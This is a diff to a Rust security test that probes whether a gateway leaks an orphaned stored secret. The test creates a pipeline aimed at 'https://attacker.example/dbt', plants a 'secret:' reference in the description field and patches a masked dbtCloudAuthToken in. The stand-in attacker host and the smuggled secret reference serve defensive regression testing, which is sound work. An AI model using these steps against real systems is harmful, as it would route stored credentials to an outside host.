@@ -600,13 +600,12 @@ async fn a_stored_secret_its_entity_no_longer_holds_is_no_ones_to_inherit_by_nam
             "{token}: a write was forwarded"
         );
     }
-    // Nor in two steps: the pipeline created without the token, the mask patched in.
-    let a = post(
-        &gw,
-        PIPES,
-        pipeline("", &service2, "https://attacker.example/dbt"),
-    )
-    .await;
+    // Nor in two steps: the pipeline created without the token, the mask patched in; nor
+    // with the orphan's reference planted where anyone may write (fifth probe): only what the
+    // entity holds in its secret fields counts as held.
+    let mut planted = pipeline("", &service2, "https://attacker.example/dbt");
+    planted["description"] = json!(format!("secret:{token_id}"));
+    let a = post(&gw, PIPES, planted).await;
     assert_eq!(a.status, 201, "{}", a.text());
     let patch = json!([{"op": "add",
         "path": "/sourceConfig/config/dbtConfigSource/dbtCloudAuthToken", "value": "*********"}]);
